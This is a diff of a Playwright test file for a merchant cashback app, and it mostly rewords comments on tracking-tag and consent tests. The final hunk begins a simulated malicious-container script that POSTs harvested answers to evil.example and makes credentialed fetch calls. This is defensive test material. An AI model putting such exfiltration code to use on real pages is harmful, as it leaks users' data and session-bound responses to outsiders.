@@ -38,7 +38,7 @@ async function openCounterApi(request: APIRequestContext, merchant: Merchant) {
   };
 }
 
-/** The part of a code's link that nobody may guess. */
+/** The secret part of a code's link. */
 const tokenIn = (link: string) => link.slice(link.indexOf('_') + 1);
 const hashOf = (phone: string) => createHash('sha256').update(`+55${phone}`).digest('hex');
 const ownOrigin = (merchant: Merchant) => `http://${merchant.slug}.localhost:${process.env.JOURNEYS_PORT}`;
@@ -115,7 +115,7 @@ test('a code is opened on the merchant’s own host: nothing before consent, the
     ['track', 'AddToCart', { ...amounts, ...value }, { eventID: `CashbackGenerated-${purchase?.id}` }],
     ['track', 'Purchase', { ...amounts, ...value }, { eventID: `Purchase-${purchase?.id}` }],
   ]);
-  // What a container adds itself runs too: files from wherever, and custom HTML by the page's nonce.
+  // Tags that a container adds run too: files from any origin, and custom HTML by the page's nonce.
   for (const name of ['from-the-container.js', 'custom-html'])
     expect(fakeTags.sent.map(({ url }) => url)).toContain(`https://tags.example/${name}`);
 
@@ -272,7 +272,7 @@ test('tags that hang, are missing or break hold nothing up, and what they were n
   await expect.poll(fakeTags.events).toContain('Purchase');
 });
 
-/** What a container of a merchant that means harm would try; the answers go to where it could read them. */
+/** A malicious merchant's container tries this; the answers go where it could read them. */
 const attack = (app: string) => `
   const tell = (what, answer) => fetch('https://evil.example/?' + what, { method: 'POST', body: String(answer) }).catch(() => {});
   const call = (what, address, init) => fetch(address, { credentials: 'include', ...init })
